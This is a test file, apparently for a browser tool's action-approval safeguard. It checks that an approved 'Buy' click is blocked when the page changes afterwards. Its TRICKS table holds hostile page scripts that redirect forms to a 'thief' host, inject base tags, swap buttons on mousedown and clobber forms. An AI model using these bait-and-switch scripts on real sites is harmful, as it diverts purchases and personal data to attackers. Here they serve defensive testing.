import type { Page } from 'playwright';
import { afterEach, beforeAll, beforeEach, expect, it, vi } from 'vitest';
import { sample } from '../../support/depth.ts';
import { PATIENCE } from '../../support/patience.ts';
import { failure } from '../../support/worker/failure.ts';
import { ApprovalRig } from './rig.ts';
import { buy, Shop } from './shop.ts';

/* A page that changes after the approval: what the person read on the card runs, or nothing does. */

/** Also of a link that is followed. */
const TITLE = 'on this page?';
let rig: ApprovalRig;
let shop: Shop;
let tabId: number;
beforeAll(async () => {
  shop = await Shop.open();
  rig = await ApprovalRig.start();
});
beforeEach(async () => {
  shop.sent.length = 0;
  await rig.ask();
  tabId = await rig.capture.newTab();
});
afterEach(() => rig.port.call('tabs.close', { tab_id: tabId }));

/** The page of the tab, for its own scripts. */
const page = (): Promise<Page> =>
  vi.waitFor(() => {
    const pages = rig.capture.browser.devtools.contexts().flatMap((context) => context.pages());
    const found = pages.findLast((one) => one.url().startsWith(shop.origin));
    if (found === undefined) throw new Error('The shop is not open.');
    return found;
  }, PATIENCE);

interface Trick {
  readonly path?: string;
  readonly target?: string;
  readonly first?: string;
  /** Statements that the page runs after the approval. */
  readonly then: string;
  /** The error code of the act; absent if the person is asked again. */
  readonly ends?: string;
  /** Where the order went, for a change that the approval covers. */
  readonly sent?: string;
}

/** The code of its error, or of the step that failed. */
const codeOf = (act: Promise<unknown>): Promise<string> =>
  act.then(
    (result) => (result as { failed: { code: string } | null }).failed?.code ?? 'done',
    (thrown: { code: string }) => thrown.code,
  );

async function allowed({
  path = '/form',
  target = 'text=Buy',
  first = 'null',
}: Trick): Promise<() => Promise<unknown>> {
  await rig.capture.visit(tabId, shop.origin + path, `Shop ${path}`);
  await (await page()).evaluate(first);
  const act = (): Promise<unknown> => buy(rig.port, tabId, { target });
  const { code, message, question = '' } = await failure(act());
  expect(code, message).toBe('approval_required');
  await rig.press(await rig.card(TITLE), '#allow');
  const { decision } = await rig.port.call('question.wait', { id: question });
  expect(decision).toMatchObject({ approve: true, scope: 'once' });
  expect(shop.sent).toEqual([]);
  return act;
}

const on = (event: string, does: string): string =>
  `addEventListener('${event}', () => { ${does} }, { capture: true, once: true })`;
/** The same button, in a form that is sent to the thief. */
const TWIN = `document.body.insertAdjacentHTML('beforeend', '<form method=post action="' + thief + '/buy"><button id=buy>Buy</button></form>')`;

const TRICKS: Readonly<Record<string, Trick>> = {
  'changes a field that nobody sees': {
    first: `form.insertAdjacentHTML('beforeend', '<input type=hidden name=amount value=1>')`,
    then: `form.elements.amount.value = '1000'`,
  },
  'changes where its form is sent': { then: `form.action = thief + '/buy'` },
  'moves its button to another form': {
    then: `document.body.insertAdjacentHTML('beforeend', '<form id=other method=post action="' + thief + '/buy"></form>'); buy.setAttribute('form', 'other')`,
  },
  'changes its base': {
    then: `document.head.insertAdjacentHTML('beforeend', '<base href="' + thief + '/">')`,
  },
  'changes a form whose fields hide its methods': {
    path: '/clobbered',
    then: `form.setAttribute('action', thief + '/buy')`,
  },
  'changes what its button says': { target: 'css=#buy', then: `buy.textContent = 'Buy all'` },
  'changes the end of a long name': {
    target: 'css=#buy',
    first: `buy.textContent = 'Buy one of these for the person whose address is in the account: 10'`,
    then: `buy.textContent = buy.textContent.replace(/10$/, '1000')`,
  },
  'puts another form in the place of its own': {
    then: `form.outerHTML = form.outerHTML.replace('/buy', thief + '/buy')`,
  },
  'changes the form that a step sends without naming it': {
    target: '',
    then: `form.action = thief + '/buy'`,
  },
  'is written again': {
    then: `document.open(); document.write('<title>Shop</title>'); document.close(); ${TWIN}`,
  },
  'goes to the same page of another site': { then: `location.replace(thief + '/form')` },
  'loads another form into its frame': {
    path: '/frame',
    then: `await new Promise((done) => { frame.onload = done; frame.src = thief + '/form'; })`,
    // A frame of a site other than the card's is omitted.
    ends: 'selector_not_found',
  },
  'replaces its shadow host': {
    path: '/shadow',
    then: `const next = document.createElement('div'); host.replaceWith(next); fill(next, thief + '/buy')`,
  },
  'lets its service worker answer': {
    path: '/sw/page',
    first: 'ready.then(() => null)',
    then: `location.reload()`,
  },
  'changes its button as the mouse goes down': { then: on('mousedown', `buy.formAction = thief + '/buy'`) },
  'swaps its form as the button goes down': { then: on('pointerdown', `form.remove(); ${TWIN}`) },
  'changes to which site its link leads': { path: '/link', then: `buy.href = thief + '/view'` },
};

it.each(sample(Object.entries(TRICKS), 18))(
  'a page that %s after the yes gets nothing, and the person is asked again',
  async (_what, trick) => {
    const act = await allowed(trick);
    const shown = await page();
    await shown.evaluate(`globalThis.thief = ${JSON.stringify(shop.thief)}`);
    await Promise.all([
      trick.then.startsWith('location') ? shown.waitForEvent('load') : null,
      shown.evaluate(`(async () => { ${trick.then} })()`).catch(() => undefined),
    ]);
    expect(await codeOf(act())).toBe(trick.ends ?? 'approval_required');
    expect(shop.sent).toEqual([]);
    if (trick.ends === undefined) await rig.card(TITLE);
  },
);

const CONTROLS: Readonly<Record<string, Trick>> = {
  'a form whose fields hide its methods': { path: '/clobbered', then: '' },
  'a form in a frame': { path: '/frame', then: '' },
  'a link': { path: '/link', then: '', sent: '/view?item=1' },
  'a page that changes elsewhere, and goes to a part of itself': {
    then: `document.querySelector('h1').textContent = 'Sale'; location.hash = 'form'`,
  },
  'a page that renders its form again, and listens to the mouse': {
    then: `form.outerHTML = form.outerHTML; ${on('mousedown', `document.title = 'Pressed'`)}`,
  },
};

it.each(sample(Object.entries(CONTROLS), 6))(
  '%s: the act that was allowed is done once',
  async (_what, trick) => {
    const act = await allowed(trick);
    await (await page()).evaluate(`(() => { ${trick.then} })()`);
    expect(await codeOf(act())).toBe('done');
    await vi.waitFor(() => expect(shop.sent).toEqual([trick.sent ?? '/buy']), PATIENCE);
  },
);
